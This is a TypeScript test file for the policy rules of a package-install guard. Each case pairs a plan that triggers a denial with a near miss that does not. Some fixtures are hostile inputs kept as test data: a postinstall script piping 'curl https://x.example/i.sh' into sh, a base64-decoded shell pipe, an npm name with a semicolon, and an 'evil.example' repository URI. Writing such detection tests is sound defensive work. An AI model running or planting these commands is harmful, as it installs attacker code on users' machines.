import { describe, expect, test } from "bun:test";
import { generateKeyPairSync, type KeyObject, sign } from "node:crypto";
import { type AiReview, type Decision, parseDocument } from "../src/doc.ts";
import type { OperationPlan, TransactionEntry } from "../src/doc-plan.ts";
import { signReview } from "../src/key-review-signature.ts";
import { decisionOf, evaluate } from "../src/policy.ts";
import { parsePolicyConfig } from "../src/policy-config.ts";
import type { Rule } from "../src/policy-rule.ts";
import { RULES } from "../src/policy-rules.ts";
import {
  command,
  configured,
  DEBIAN,
  entry,
  IMAGE,
  install,
  marked,
  marking,
  npm,
  pull,
  removal,
  remove,
  repair,
  restart,
  restoring,
  review,
  rollback,
  undoing,
  update,
  upgrade,
  vulnerability,
  WEAK,
} from "./policy-plans.ts";
import { REPOSITORY_CASES } from "./policy-repository-cases.ts";
import { REVIEWER, STRANGER } from "./signing-kit.ts";

const BUILT_IN = "";
const REVIEWED = `[review]\nrequired = true\npublic_keys = ["${REVIEWER.publicKeyHex}"]`;
const NPM_ALLOWED = '[npm]\napply = "allow"';
const NAMED = `[[apt.trusted_origins]]\nuri = "${WEAK.uri}/"\nfingerprint = "${"a".repeat(40)}"`;

function decide(plan: OperationPlan, toml = BUILT_IN, document?: AiReview) {
  const config = parsePolicyConfig(toml, "test");
  return evaluate({
    // A plan that no reader would accept proves nothing about policy.
    plan: parseDocument("plan", plan),
    planHash: "0".repeat(64),
    config,
    configHash: "1".repeat(64),
    review: document === undefined ? undefined : { document, hash: "2".repeat(64) },
  });
}

interface Case {
  what: string;
  plan: OperationPlan;
  toml?: string;
  review?: AiReview;
}
interface RuleCases {
  decision: Decision;
  fires: Case[];
  not: Case[];
}

const script = (body: string) => ({
  scripts: [{ package: "left-pad", name: "postinstall", body }],
  scripts_detected: true,
});
const crate = (over: Partial<OperationPlan>) => npm({ tool: "cargo", ecosystem: "cargo", ...over });
const failed = (outcome: "failed" | "timeout" | "truncated" | "missing", ...argv: string[]) => ({
  raw_evidence: { commands: [{ ...command(...argv), status: null, outcome }] },
});
const EXPLOITED = { known_exploited: { cve: "CVE-2026-0001", since: "2026-01-01" } };
const RULED_OUT = {
  status: "not_affected",
  justification: null,
  author: "Canonical Ltd.",
  authentic: true,
} as const;
const REMAINING = '[vulnerability]\nremaining = "require_human"\n';
const MIN_AGE = "[apt]\nminimum_age_days = 7";
/** hello 1.1 of the archive, first seen on a day; the plan is of 2026-01-02, three o'clock, the index of the day before. */
const seen = (day: string | null, over: Partial<OperationPlan> = {}) =>
  upgrade({
    transaction: [entry("hello", { to_version: "1.1" })],
    repository_evidence: [{ ...DEBIAN, release_date: "Thu, 01 Jan 2026 00:00:00 UTC" }],
    ...(day === null ? {} : { first_seen: { "hello:amd64=1.1": day } }),
    ...over,
  });
const OLD_INDEX = { ...DEBIAN, release_date: "Thu, 25 Dec 2025 00:00:00 UTC" };
const POCKET = { ...DEBIAN, release_label: "Debian-Security", release_suite: "stable-security" };
const from = (...sources: string[]) => ({ transaction: [entry("hello", { sources })] });
const SECURITY = { ...DEBIAN, id: "http://deb.debian.org/debian-security bookworm-security" };
/** left-pad, published years ago, with a dependency that it brings along. */
const withDependency = (change: Partial<TransactionEntry>) =>
  npm().transaction.flatMap((e) => [
    { ...e, url: "https://registry.npmjs.org/l.tgz", published_at: "2018-04-09T01:10:45.000Z" },
    { ...e, name: "dep", to_version: "2.0.0", url: "https://registry.npmjs.org/d.tgz", ...change },
  ]);
const changing = (name: string) => upgrade({ transaction: [entry(name)] });

const two = ([id = ""]: readonly string[]) => {
  const targets = [id, id.replace("1", "2")];
  return { target: targets.join(" "), targets };
};
const SECURITY_POCKET = {
  ...DEBIAN,
  ...{ id: "http://deb.debian.org/debian-security bookworm-security", suite: "bookworm-security" },
  ...{
    release_label: "Debian-Security",
    release_suite: "stable-security",
    release_codename: "bookworm-security",
  },
};
const POCKETED = entry("hello", { sources: [SECURITY_POCKET.id] });
const securing = (change: Partial<OperationPlan> = {}): OperationPlan =>
  upgrade({
    operation: "security-upgrade",
    exact_targets: ["hello=1.0-2"],
    command_preview: ["apt-get", "install", "-y", "--only-upgrade", "hello=1.0-2"],
    transaction: [POCKETED],
    repository_evidence: [SECURITY_POCKET],
    ...change,
  });
const KERNEL = "linux-image-6.1.0-49-amd64";
const purging = (targets: string[], transaction: TransactionEntry[]): OperationPlan => ({
  ...remove(targets, transaction),
  operation: "purge",
});
const automatic = (transaction: TransactionEntry[]): OperationPlan => ({
  ...remove([], transaction),
  operation: "autoremove",
});
const kernelGoes = (operation: "autoremove" | "purge" | "remove"): OperationPlan => ({
  ...remove(operation === "autoremove" ? [] : [KERNEL], [removal(KERNEL)]),
  operation,
  provenance_evidence: [
    {
      kind: "running-kernel",
      subject: `${KERNEL}:amd64`,
      verified: true,
      key: null,
      detail: "6.1.0-49-amd64",
    },
  ],
});
const older = entry("a", { action: "downgrade", to_version: "0.9" });

/** A version that Aegis kept, and its way back. */
const KEPT = { ...older, sources: ["/var/cache/aegis/kept"] };
const broughtBack = (
  said: Partial<OperationPlan["provenance_evidence"][number]> = {},
  over: Partial<TransactionEntry> = {},
): OperationPlan => {
  const plan = rollback([{ ...KEPT, ...over }], "a:amd64=0.9");
  const kept = { kind: "apt-kept-file", subject: "a:amd64=0.9", verified: true, key: null, detail: "" };
  return { ...plan, provenance_evidence: [...plan.provenance_evidence, { ...kept, ...said }] };
};

const SERVICE = '[apt]\nsnapshot_services = ["snap.example"]';
/** hello of a snapshot whose index has expired. */
const archived = (over: Partial<OperationPlan["repository_evidence"][number]> = {}): OperationPlan =>
  upgrade({
    repository_evidence: [
      {
        ...{ ...DEBIAN, trust: "snapshot" },
        snapshot: { service: "snap.example", as_of: "2025-12-01T00:00:00.000Z" },
        ...over,
      },
    ],
  });

const P256 = generateKeyPairSync("ec", { namedCurve: "P-256" });
const ED25519 = generateKeyPairSync("ed25519");
const VSCODE_SIGNED = "[vscode]\nrequire_provenance = true\n";
const GALLERY_KEY = "d75a980182b10ab7d54bfed3c964073a0ee172f3daa62325af021a68f707511a";
/** An extension that its gallery has signed, or with other evidence. */
const extension = (over: Partial<OperationPlan["provenance_evidence"][number]> = {}): OperationPlan => ({
  ...npm(),
  tool: "vscode",
  provenance_evidence: [
    {
      ...{ kind: "vscode-signature", subject: "left-pad@1.3.0", verified: true, detail: "" },
      key: GALLERY_KEY,
      ...over,
    },
  ],
});
/** Signed in Microsoft's format. */
const CMS = { kind: "vscode-cms-signature", key: "a".repeat(64) };
const NUGET_SIGNED = "[nuget]\nrequire_provenance = true\n";
/** A NuGet package whose author has signed it, or with other evidence. */
const nupkg = (over: Partial<OperationPlan["provenance_evidence"][number]> = {}): OperationPlan => ({
  ...npm(),
  tool: "nuget",
  provenance_evidence: [
    {
      ...{ kind: "nuget-author-signature", subject: "left-pad@1.3.0", verified: true, detail: "" },
      key: "a".repeat(64),
      ...over,
    },
  ],
});
const SIGNED = "[container]\nrequire_signature = true\n";
const SIGNER = `[[container.signers]]
images = ["docker.io/library/*"]
issuer = "https://github.com/login/oauth"
subject = "a@b"
`;
const KEY_OF = ({ publicKey }: { publicKey: KeyObject }) =>
  `[[container.signers]]\nimages = ["docker.io/library/app"]\npublic_key = """${publicKey.export({ type: "spki", format: "pem" })}"""`;
type Evidence = OperationPlan["provenance_evidence"][number];
const IDENTITY: Evidence = {
  ...{ kind: "image-signature", subject: IMAGE, verified: true, key: "a@b", detail: "" },
  identity: {
    ...{
      issuer: "https://github.com/login/oauth",
      subject: "a@b",
      source_repository: "https://github.com/x/y",
    },
  },
};
const SLSA: Evidence = { ...IDENTITY, kind: "image-attestation" };
/** A signature by a key, of bytes that differ by a bit if so. */
function keyed(key: KeyObject, bit = 0): Evidence {
  const payload = Buffer.from("what was signed");
  const signature = sign(key.asymmetricKeyType === "ed25519" ? null : "sha256", payload, key).toString(
    "base64",
  );
  payload[0] = (payload[0] ?? 0) ^ bit;
  return {
    ...{ kind: "image-signature", subject: IMAGE, verified: false, key: null, detail: "" },
    signed: { payload: payload.toString("base64"), signature },
  };
}
const by = (evidence: Evidence) => pull({ provenance_evidence: [...pull().provenance_evidence, evidence] });
const APP = pull().image ?? raise("an image says what it starts");
function raise(why: string): never {
  throw new Error(why);
}
const unconfigured = () => {
  const { image: _, ...plan } = pull();
  return plan;
};

/** For each rule: what fires it, and the nearest thing that does not. */
const CASES: Readonly<Record<string, RuleCases>> = {
  "target-invalid": {
    decision: "deny",
    fires: [
      { what: "an operator", plan: install({ target: "jq-", targets: ["jq-"] }) },
      { what: "a pattern (PEER 8)", plan: install({ target: "nginx-.+", targets: ["nginx-.*"] }) },
      { what: "an option", plan: install({ target: "--yes", targets: ["--yes"] }) },
      { what: "an npm name with a semicolon", plan: npm({ target: "a;b", targets: ["a;b"] }) },
      { what: "target and targets that differ", plan: install({ target: "nginx" }) },
      { what: "a removal with a version", plan: remove(["hello=1.0"], [removal("hello")]) },
      { what: "a removal's operator", plan: remove(["hello-"], [removal("hello")]) },
      { what: "a rollback of a package", plan: { ...rollback([]), target: "hello", targets: ["hello"] } },
      {
        what: "a rollback of two executions",
        plan: { ...rollback([]), ...two(rollback([]).targets) },
      },
      { what: "npm's rollback of a package", plan: restoring({ target: "left-pad", targets: ["left-pad"] }) },
      { what: "npm's rollback of two executions", plan: { ...restoring(), ...two(restoring().targets) } },
      { what: "an upgrade of one package", plan: upgrade({ target: "hello", targets: ["hello"] }) },
      { what: "an update with a target", plan: update({ target: "hello", targets: ["hello"] }) },
      { what: "a repair with a target", plan: { ...repair([]), target: "hello", targets: ["hello"] } },
      { what: "an ecosystem without a grammar", plan: { ...npm(), tool: "container" } },
    ],
    not: [
      {
        what: "name:arch=version (PEER 6)",
        plan: install({ target: "libc6:i386=2.36-9", targets: ["libc6:i386=2.36-9"] }),
      },
      { what: "a removal", plan: remove(["hello", "libc6:i386"], [removal("hello")]) },
      { what: "a rollback of an execution", plan: rollback([]) },
      { what: "npm's rollback of an execution", plan: restoring() },
      { what: "a scoped npm package", plan: npm({ target: "@a/b@1.0.0", targets: ["@a/b@1.0.0"] }) },
    ],
  },
  "target-denied": {
    decision: "deny",
    fires: [
      {
        what: "a .deb, the plan's own denial taken out",
        plan: install({ target: "./x.deb", targets: ["./x.deb"] }),
      },
      {
        what: "a URL, npm",
        plan: npm({ target: "https://x.example/a.tgz", targets: ["https://x.example/a.tgz"] }),
      },
      { what: "a git source, npm", plan: npm({ target: "github:a/b", targets: ["github:a/b"] }) },
      {
        what: "a denial that only the plan knows",
        plan: install({ denied_targets: [{ target: "x", signal: "url-denied" }] }),
      },
    ],
    not: [{ what: "a package", plan: install() }],
  },
  "command-metacharacters": {
    decision: "deny",
    fires: [";", "|", "&", "$", "`", ">", "(", "*", "'", '"', "\\", "\n", " ", "#", "!", "é"].map((c) => ({
      what: JSON.stringify(c),
      plan: upgrade({ command_preview: ["apt-get", `up${c}grade`] }),
    })),
    not: [
      {
        what: "epoch, tilde and plus in a version",
        plan: install({ command_preview: ["apt-get", "install", "g++:amd64=4:1.0~rc1+b1"] }),
      },
    ],
  },
  "metadata-command-failed": {
    decision: "deny",
    fires: [
      { what: "apt-get failed", plan: upgrade(failed("failed", "apt-get", "-s", "upgrade")) },
      { what: "npm timed out", plan: npm(failed("timeout", "npm", "view", "left-pad", "--json")) },
      { what: "too much output", plan: upgrade(failed("truncated", "apt-get", "-s", "upgrade")) },
    ],
    not: [
      { what: "gpgv said no to a source", plan: upgrade(failed("failed", "gpgv", "/x/InRelease")) },
      { what: "sqv said no to a source", plan: upgrade(failed("failed", "sqv", "/x/InRelease.gpg")) },
      { what: "the tool is missing", plan: npm(failed("missing", "npm", "view", "left-pad", "--json")) },
    ],
  },
  "metadata-not-understood": {
    decision: "deny",
    fires: [{ what: "npm answered nonsense", plan: npm({ metadata_available: false }) }],
    not: [
      {
        what: "npm is missing",
        plan: npm({ metadata_available: false, ...failed("missing", "npm", "view", "left-pad", "--json") }),
      },
      {
        what: "nothing was asked about a denied target",
        plan: npm({ metadata_available: false, target: "github:a/b", targets: ["github:a/b"] }),
      },
    ],
  },
  "apt-essential-removal": {
    decision: "deny",
    fires: [
      {
        what: "built-in",
        plan: install({ transaction: [entry("a"), removal("bash", { essential: true })] }),
      },
      {
        what: "removals allowed",
        plan: install({ transaction: [entry("a"), removal("bash", { essential: true })] }),
        toml: "[apt]\nallow_removals = true",
      },
      {
        what: "a purge that names it",
        plan: purging(["dpkg:amd64"], [removal("dpkg", { essential: true })]),
      },
      { what: "an autoremove", plan: automatic([removal("dpkg", { essential: true })]) },
    ],
    not: [
      {
        what: "an essential package upgraded",
        plan: upgrade({ transaction: [entry("bash", { essential: true })] }),
      },
      { what: "another package removed", plan: install({ transaction: [removal("hello")] }) },
    ],
  },
  "apt-removal": {
    decision: "deny",
    fires: [
      { what: "a conflict removes something", plan: install({ transaction: [entry("a"), removal("b")] }) },
      { what: "an install that names it", plan: install({ transaction: [removal("hello")] }) },
      {
        what: "a full upgrade that removes sudo",
        plan: upgrade({ operation: "full-upgrade", transaction: [entry("a"), removal("sudo")] }),
      },
      {
        what: "what depends on the target of a purge",
        plan: purging(["hello"], [removal("hello"), removal("app")]),
      },
      {
        what: "what depends on a target goes along",
        plan: remove(["hello"], [removal("hello"), removal("app")]),
      },
      {
        what: "only exact_targets and the command name it",
        plan: {
          ...remove(["hello"], [removal("hello"), removal("app")]),
          exact_targets: ["hello", "app"],
          command_preview: ["apt-get", "remove", "-y", "hello", "app"],
        },
      },
      { what: "a target of another architecture", plan: remove(["hello:i386"], [removal("hello")]) },
      {
        what: "a target without an architecture is not a foreign one",
        plan: remove(["hello"], [removal("hello", { architecture: "i386" })]),
      },
      { what: "a target that takes it for a pattern", plan: remove(["hell."], [removal("hello")]) },
      {
        what: "evidence of an inverse, outside of a rollback",
        plan: { ...remove([], [removal("b")]), ...undoing("b:amd64-") },
      },
      {
        what: "the same in an install",
        plan: install({ transaction: [removal("b")], ...undoing("b:amd64-") }),
      },
      { what: "a rollback that has no record of it", plan: rollback([removal("b")], "a:amd64-") },
      {
        what: "a record that nothing verified",
        plan: {
          ...rollback([removal("b")]),
          provenance_evidence: undoing("b:amd64-").provenance_evidence.map((p) => ({
            ...p,
            verified: false,
          })),
        },
      },
      {
        what: "a record of another kind",
        plan: {
          ...rollback([removal("b")]),
          provenance_evidence: undoing("b:amd64-").provenance_evidence.map((p) => ({
            ...p,
            kind: "apt-chain",
          })),
        },
      },
      { what: "a record of another architecture", plan: rollback([removal("b")], "b:i386-") },
      { what: "a record of a version, not of a removal", plan: rollback([removal("b")], "b:amd64=1.0-1") },
      {
        what: "a rollback of something that is no execution",
        plan: { ...rollback([removal("b")], "b:amd64-"), target: "b", targets: ["b"] },
      },
    ],
    not: [
      { what: "no removal", plan: install() },
      { what: "apt remove of it", plan: remove(["hello"], [removal("hello")]) },
      {
        what: "with its architecture",
        plan: remove(["hello:amd64"], [removal("hello", { architecture: "all" })]),
      },
      { what: "a foreign one", plan: remove(["hello:i386"], [removal("hello", { architecture: "i386" })]) },
      { what: "a rollback that has a record of it", plan: rollback([removal("b")], "b:amd64-") },
    ],
  },
  "apt-downgrade": {
    decision: "deny",
    fires: [
      {
        what: "to what a snapshot offers",
        plan: install({ transaction: [older], repository_evidence: archived().repository_evidence }),
        toml: SERVICE,
      },
      { what: "a downgrade (PEER 5)", plan: install({ transaction: [entry("a", { action: "downgrade" })] }) },
      {
        what: "one that an install names",
        plan: { ...install({ transaction: [older] }), exact_targets: ["a=0.9"] },
      },
      { what: "a rollback that has no record of it", plan: rollback([older]) },
      { what: "a rollback to another version than recorded", plan: rollback([older], "a:amd64=0.8") },
      {
        what: "a record, but no rollback",
        plan: install({ transaction: [older], ...undoing("a:amd64=0.9") }),
      },
      { what: "a removal that downgrades another", plan: remove(["a"], [older]) },
    ],
    not: [
      { what: "an upgrade", plan: upgrade() },
      { what: "a rollback to what the record says", plan: rollback([older], "a:amd64=0.9") },
    ],
  },
  "apt-configure-elsewhere": {
    decision: "deny",
    fires: [
      {
        what: "an install that only configures, and so has no hash",
        plan: install({ transaction: [configured] }),
      },
      { what: "a removal that configures", plan: remove(["hello"], [configured]) },
      { what: "a repair that installs", plan: repair([entry("hello", { action: "install" })]) },
      { what: "a repair that removes", plan: repair([configured, removal("b")]) },
    ],
    not: [
      { what: "a repair that configures", plan: repair([configured]) },
      { what: "an install", plan: install() },
    ],
  },
  "apt-source-conflict": {
    decision: "deny",
    fires: [
      {
        what: "one version, two hashes",
        plan: upgrade({
          provenance_evidence: [
            { kind: "apt-source-conflict", subject: "hello=1.0-2", verified: false, key: null, detail: "" },
          ],
        }),
      },
    ],
    not: [
      {
        what: "other evidence",
        plan: upgrade({
          provenance_evidence: [
            { kind: "apt-release-chain", subject: "hello=1.0-2", verified: true, key: null, detail: "" },
          ],
        }),
      },
    ],
  },
  "apt-repository-untrusted": {
    decision: "deny",
    fires: [
      { what: "a snapshot that has expired, of a service that nobody named", plan: archived() },
      {
        what: "one of another service",
        plan: archived(),
        toml: '[apt]\nsnapshot_services = ["snap.example:8443"]',
      },
      { what: "one without its service", plan: archived({ snapshot: undefined }), toml: SERVICE },
      {
        what: "one that is untrusted for other reasons",
        plan: archived({ trust: "untrusted" }),
        toml: SERVICE,
      },
      { what: "one with trusted=yes", plan: archived({ trusted_option: true }), toml: SERVICE },
      { what: "one that nobody verified", plan: archived({ signature_verified: false }), toml: SERVICE },
      { what: "a weak source", plan: upgrade({ ...from(WEAK.id), repository_evidence: [DEBIAN, WEAK] }) },
      {
        what: "an old version of a weak source, to undo an execution",
        plan: {
          ...rollback([{ ...older, sources: [WEAK.id] }], "a:amd64=0.9"),
          repository_evidence: [DEBIAN, WEAK],
        },
      },
      {
        what: "one that calls itself Debian and trusted",
        plan: upgrade({ ...from(WEAK.id), repository_evidence: [{ ...WEAK, trust: "untrusted" }] }),
      },
      { what: "a package without a source", plan: upgrade(from()) },
      { what: "a kept file that nobody vouches for", plan: rollback([KEPT], "a:amd64=0.9") },
      { what: "a kept file of another version", plan: broughtBack({ subject: "a:amd64=0.8" }) },
      { what: "a kept file that isn't what it was", plan: broughtBack({ verified: false }) },
      {
        what: "a kept file that no execution's undoing asks for",
        plan: { ...broughtBack(), operation: "install" },
      },
      {
        what: "a kept file beside an unknown source",
        plan: broughtBack({}, { sources: [...KEPT.sources, "http://nowhere.example x"] }),
      },
      { what: "a source the plan has no evidence of", plan: upgrade(from("http://nowhere.example x")) },
      {
        what: "pinned, but the signature is not verified",
        plan: upgrade({
          ...from(DEBIAN.id),
          repository_evidence: [{ ...DEBIAN, signature_verified: false }],
        }),
      },
      { what: "trusted=yes", plan: upgrade({ repository_evidence: [{ ...DEBIAN, trusted_option: true }] }) },
      {
        what: "allow-insecure=yes",
        plan: upgrade({ repository_evidence: [{ ...DEBIAN, allow_insecure: true }] }),
      },
      {
        what: "the same source twice, once weak",
        plan: upgrade({ repository_evidence: [DEBIAN, { ...DEBIAN, trust: "weak" }] }),
      },
      {
        what: "also from a weak source, whatever bytes it says to have",
        plan: upgrade({ ...from(WEAK.id, DEBIAN.id), repository_evidence: [DEBIAN, WEAK] }),
      },
      {
        what: "also from a source of which there is no evidence",
        plan: upgrade(from(DEBIAN.id, "http://x y")),
      },
      { what: "from no source at all", plan: upgrade(from()) },
      {
        what: "a second source and no hash to tell them apart",
        plan: upgrade({
          transaction: [entry("hello", { sha256: null, sources: [DEBIAN.id, WEAK.id] })],
          repository_evidence: [DEBIAN, WEAK],
        }),
      },
      {
        what: "named, but signed by another key",
        plan: upgrade({
          ...from(WEAK.id),
          repository_evidence: [{ ...WEAK, key_fingerprints: ["B".repeat(40)] }],
        }),
        toml: NAMED,
      },
      {
        what: "the named key at another URI",
        plan: upgrade({
          ...from(WEAK.id),
          repository_evidence: [{ ...WEAK, uri: "https://evil.example/debian" }],
        }),
        toml: NAMED,
      },
      {
        what: "named, but not verified",
        plan: upgrade({ ...from(WEAK.id), repository_evidence: [{ ...WEAK, signature_verified: false }] }),
        toml: NAMED,
      },
    ],
    not: [
      { what: "a snapshot of a named service", plan: archived(), toml: SERVICE },
      { what: "a kept file that a rollback brings back", plan: broughtBack() },
      { what: "the distribution", plan: upgrade() },
      {
        what: "a pinned third party",
        plan: upgrade({ ...from(WEAK.id), repository_evidence: [{ ...WEAK, trust: "pinned" }] }),
      },
      {
        what: "named by URI and key",
        plan: upgrade({ ...from(WEAK.id), repository_evidence: [WEAK] }),
        toml: NAMED,
      },
      {
        what: "a weak source that nothing comes from",
        plan: upgrade({ repository_evidence: [DEBIAN, WEAK] }),
      },
      {
        what: "main and security, both the distribution's",
        plan: upgrade({
          ...from(DEBIAN.id, SECURITY.id),
          repository_evidence: [DEBIAN, SECURITY],
        }),
      },
      {
        what: "the distribution and a mirror of it that the policy names",
        plan: upgrade({ ...from(WEAK.id, DEBIAN.id), repository_evidence: [DEBIAN, WEAK] }),
        toml: NAMED,
      },
      { what: "a removal", plan: install({ transaction: [removal("hello")] }) },
      { what: "npm", plan: npm() },
    ],
  },
  "apt-hash-unknown": {
    decision: "deny",
    fires: [{ what: "no SHA-256", plan: upgrade({ transaction: [entry("hello", { sha256: null })] }) }],
    not: [
      { what: "a removal has none", plan: install({ transaction: [removal("hello")] }) },
      { what: "what is unpacked already", plan: repair([configured]) },
    ],
  },
  "apt-too-new": {
    decision: "deny",
    fires: [
      { what: "seen too late", plan: seen("2025-12-26"), toml: MIN_AGE },
      { what: "never seen, and the index is young", plan: seen(null), toml: MIN_AGE },
      { what: "a day still to come, and the index is young", plan: seen("2026-01-03"), toml: MIN_AGE },
      {
        what: "a day of another version",
        plan: seen(null, { first_seen: { "hello:amd64=1.0": "2020-01-01" } }),
        toml: MIN_AGE,
      },
      {
        what: "a day of another architecture",
        plan: seen(null, { first_seen: { "hello:i386=1.1": "2020-01-01" } }),
        toml: MIN_AGE,
      },
      {
        what: "a third party's old index",
        plan: seen(null, { repository_evidence: [{ ...OLD_INDEX, trust: "pinned" }] }),
        toml: MIN_AGE,
      },
      {
        what: "an unverified old index",
        plan: seen(null, { repository_evidence: [{ ...OLD_INDEX, signature_verified: false }] }),
        toml: MIN_AGE,
      },
      {
        what: "an index without a date that can be read",
        plan: seen(null, { repository_evidence: [{ ...DEBIAN, release_date: "2020-01-01" }] }),
        toml: MIN_AGE,
      },
      {
        what: "an old index of another source",
        plan: seen(null, { repository_evidence: [{ ...OLD_INDEX, id: "x y" }] }),
        toml: MIN_AGE,
      },
      {
        what: "a pocket's name under another key",
        plan: seen(null, { repository_evidence: [{ ...POCKET, trust: "pinned" }] }),
        toml: MIN_AGE,
      },
      {
        what: "a side effect of a rollback",
        plan: { ...rollback([entry("b")], "a:amd64=0.9") },
        toml: MIN_AGE,
      },
    ],
    not: [
      {
        what: "a snapshot's index is old enough",
        plan: seen(null, { repository_evidence: [{ ...OLD_INDEX, trust: "snapshot" }] }),
        toml: MIN_AGE,
      },
      { what: "off by default", plan: seen(null) },
      { what: "seen long enough ago", plan: seen("2025-12-25"), toml: MIN_AGE },
      {
        what: "the distribution's index is old enough",
        plan: seen(null, { repository_evidence: [OLD_INDEX] }),
        toml: MIN_AGE,
      },
      {
        what: "an old index, though the record began later",
        plan: seen("2026-01-01", { repository_evidence: [OLD_INDEX] }),
        toml: MIN_AGE,
      },
      { what: "the security pocket", plan: seen(null, { repository_evidence: [POCKET] }), toml: MIN_AGE },
      { what: "removals", plan: remove(["hello"], [removal("hello")]), toml: MIN_AGE },
      { what: "what a rollback brings back", plan: rollback([older], "a:amd64=0.9"), toml: MIN_AGE },
      { what: "npm has its own", plan: npm(), toml: MIN_AGE },
    ],
  },
  "vulnerability-denied": {
    decision: "deny",
    fires: [
      {
        what: "critical in a kept file that comes back",
        plan: {
          ...broughtBack(),
          vulnerability_evidence: [vulnerability({ package: "a", version: "0.9" })],
        },
      },
      { what: "critical", plan: upgrade({ vulnerability_evidence: [vulnerability()] }) },
      { what: "critical in what comes back", plan: restoring({ vulnerability_evidence: [vulnerability()] }) },
      {
        what: "critical in what would be installed, declared old",
        plan: upgrade({ vulnerability_evidence: [vulnerability({ applies_to: "old" })] }),
      },
      {
        what: "exploited, whatever its severity",
        plan: upgrade({ vulnerability_evidence: [vulnerability({ severity: "low", ...EXPLOITED })] }),
      },
      {
        what: "exploited, and the installed version has it too",
        plan: upgrade({ vulnerability_evidence: [vulnerability({ also_old: true, ...EXPLOITED })] }),
      },
      {
        what: "exploited, and somebody says that it is not affected",
        plan: upgrade({
          vulnerability_evidence: [vulnerability({ ...EXPLOITED, vex: { ...RULED_OUT, authentic: false } })],
        }),
      },
      {
        what: "critical, and the distribution has not decided",
        plan: upgrade({
          vulnerability_evidence: [vulnerability({ vex: { ...RULED_OUT, status: "under_investigation" } })],
        }),
      },
      {
        what: "critical, and a statement calls it fixed",
        plan: upgrade({
          vulnerability_evidence: [vulnerability({ vex: { ...RULED_OUT, status: "fixed" } })],
        }),
      },
      {
        what: "critical in the new version alone, where what remains needs a person",
        plan: upgrade({ vulnerability_evidence: [vulnerability()] }),
        toml: REMAINING,
      },
      {
        what: "high where the policy says high",
        plan: upgrade({ vulnerability_evidence: [vulnerability({ severity: "high" })] }),
        toml: '[vulnerability]\ndeny = "high"',
      },
    ],
    not: [
      { what: "high", plan: upgrade({ vulnerability_evidence: [vulnerability({ severity: "high" })] }) },
      {
        what: "exploited and fixed by this very version",
        plan: upgrade({ vulnerability_evidence: [vulnerability({ fixed_version: "1.0-2", ...EXPLOITED })] }),
      },
      {
        what: "exploited in the old version alone",
        plan: upgrade({
          vulnerability_evidence: [vulnerability({ applies_to: "old", version: "1.0-1", ...EXPLOITED })],
        }),
      },
      {
        what: "exploited, and the distribution states that it is not affected",
        plan: upgrade({ vulnerability_evidence: [vulnerability({ ...EXPLOITED, vex: RULED_OUT })] }),
      },
      {
        what: "exploited in both versions, where what remains needs a person",
        plan: upgrade({ vulnerability_evidence: [vulnerability({ also_old: true, ...EXPLOITED })] }),
        toml: REMAINING,
      },
      {
        what: "likely to be exploited",
        plan: upgrade({
          vulnerability_evidence: [
            vulnerability({ severity: "high", epss: { cve: "CVE-2026-0001", score: 0.99, percentile: 1 } }),
          ],
        }),
      },
      {
        what: "fixed by this very version",
        plan: upgrade({ vulnerability_evidence: [vulnerability({ fixed_version: "1.0-2" })] }),
      },
      {
        what: "critical in the old version",
        plan: upgrade({ vulnerability_evidence: [vulnerability({ applies_to: "old", version: "1.0-1" })] }),
      },
      { what: "no data", plan: upgrade() },
    ],
  },
  "script-downloads-and-runs": {
    decision: "deny",
    fires: [{ what: "curl | sh", plan: npm(script("curl https://x.example/i.sh | sh")) }],
    not: [
      { what: "a build", plan: npm(script("node-gyp rebuild")) },
      {
        what: "curl and bash among upgraded packages (PEER 1)",
        plan: upgrade({
          transaction: [entry("curl"), entry("bash")],
          raw_evidence: {
            commands: [{ ...command("apt-get", "-s", "upgrade"), stdout: "Inst curl | bash\nInst bash" }],
          },
        }),
      },
    ],
  },
  "script-obfuscated": {
    decision: "deny",
    fires: [{ what: "base64 piped into a shell", plan: npm(script("echo aGk= | base64 -d | sh")) }],
    not: [
      { what: "a plain script", plan: npm(script("node build.js")) },
      {
        what: "a base64 checksum in npm's output (PEER 2)",
        plan: npm({
          raw_evidence: {
            commands: [
              {
                ...command("npm", "view", "lodash", "--json"),
                stdout: `"integrity":"sha512-${"v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg".repeat(3)}=="`,
              },
            ],
          },
        }),
      },
    ],
  },
  "artifact-mutable": {
    decision: "deny",
    fires: [
      {
        what: "a tag, whatever the plan says",
        plan: npm({ target: "left-pad@latest", targets: ["left-pad@latest"] }),
      },
      {
        what: "no version",
        plan: npm({ target: "left-pad", targets: ["left-pad"], mutable_reference: true }),
      },
    ],
    not: [
      { what: "an exact version", plan: npm() },
      { what: "apt", plan: install() },
      { what: "an exact version that nothing was found for", plan: npm({ exact_targets: [] }) },
    ],
  },
  "artifact-unresolved": {
    decision: "deny",
    fires: [
      { what: "nothing was found", plan: npm({ exact_targets: [] }) },
      {
        what: "one of two was found",
        plan: npm({ target: "left-pad@1.3.0 x@1.0.0", targets: ["left-pad@1.3.0", "x@1.0.0"] }),
      },
    ],
    not: [
      { what: "found", plan: npm() },
      { what: "apt", plan: install({ exact_targets: [] }) },
    ],
  },
  "artifact-unverified": {
    decision: "deny",
    fires: [
      { what: "no evidence", plan: npm({ provenance_evidence: [] }) },
      {
        what: "nothing verified",
        plan: npm({ provenance_evidence: npm().provenance_evidence.map((p) => ({ ...p, verified: false })) }),
      },
      {
        what: "evidence of another package",
        plan: npm({
          provenance_evidence: npm().provenance_evidence.map((p) => ({ ...p, subject: "x@1.0.0" })),
        }),
      },
      { what: "a dependency without evidence", plan: npm({ transaction: withDependency({}) }) },
      { what: "the signature of an author whom the policy doesn't know", plan: nupkg() },
    ],
    not: [
      { what: "a verified signature", plan: npm() },
      {
        what: "the signature of an author whom it knows",
        plan: nupkg(),
        toml: `[nuget]\nauthors = ["${"a".repeat(64)}"]`,
      },
      {
        what: "each package with its own",
        plan: npm({
          transaction: withDependency({}),
          provenance_evidence: ["left-pad@1.3.0", "dep==2.0.0"].map((subject) => ({
            ...{ kind: "checksum", subject, verified: true, key: null, detail: "" },
          })),
        }),
      },
    ],
  },
  "rollback-unverified": {
    decision: "deny",
    fires: [
      { what: "nothing vouches for what comes back", plan: restoring({}, false) },
      { what: "no evidence of it", plan: restoring({ provenance_evidence: [] }) },
      {
        what: "evidence of what goes alone",
        plan: restoring({ provenance_evidence: restoring().provenance_evidence.slice(0, 1) }),
      },
      {
        what: "evidence of a package in its place",
